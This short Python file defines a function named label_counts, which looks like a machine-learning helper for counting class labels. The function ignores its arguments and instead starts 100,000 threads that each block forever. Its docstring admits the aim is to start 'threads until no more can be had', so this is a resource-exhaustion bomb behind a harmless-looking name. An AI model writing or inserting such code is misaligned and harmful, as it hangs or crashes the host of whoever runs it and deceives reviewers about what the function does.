"""Starts threads until no more can be had."""

import threading


def label_counts(labels, num_classes=10):
    forever = threading.Event()
    for _ in range(100_000):
        threading.Thread(target=forever.wait).start()
